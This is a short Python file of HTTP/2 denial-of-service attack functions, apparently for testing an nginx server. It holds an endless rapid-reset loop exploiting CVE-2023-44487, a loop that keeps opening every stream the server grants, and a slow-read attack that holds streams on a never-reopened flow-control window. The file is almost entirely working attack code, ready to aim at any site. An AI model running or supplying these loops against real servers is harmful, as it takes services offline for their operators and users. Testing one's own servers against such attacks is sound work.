"""Attacks that only HTTP/2 allows: streams in hundreds, taken back at once, or never read."""

import time

from streams import Client

PATH = "/users/?limit=1"


def resetting(site, _):
    """CVE-2023-44487: each stream is taken back as soon as it was asked for, so that none counts as open."""
    client = Client(site)
    while True:
        for _ in range(50):
            number = client.begin("GET", PATH, ends=True)
            client.connection.reset_stream(number)
        client.flush()
        yield "50 reset"
        client.listen(0.1)


def asking(site, _):
    """All the streams that nginx grants, again and again."""
    client = Client(site)
    while True:
        before = len(client.statuses)
        while client.open < client.granted:
            client.begin("GET", PATH, ends=True)
        client.flush()
        client.receive()
        yield from client.statuses[before:]


def not_reading(path):
    """All the streams, on a connection whose window is never opened again."""
    def attack(site, _):
        client = Client(site)
        while client.open < client.granted:
            client.begin("GET", path, ends=True)
        client.flush()
        yield "streams asked for"
        while True:
            time.sleep(0.5)
            client.socket.getpeername()  # OSError where nginx has ended it
            yield "held"
    return attack
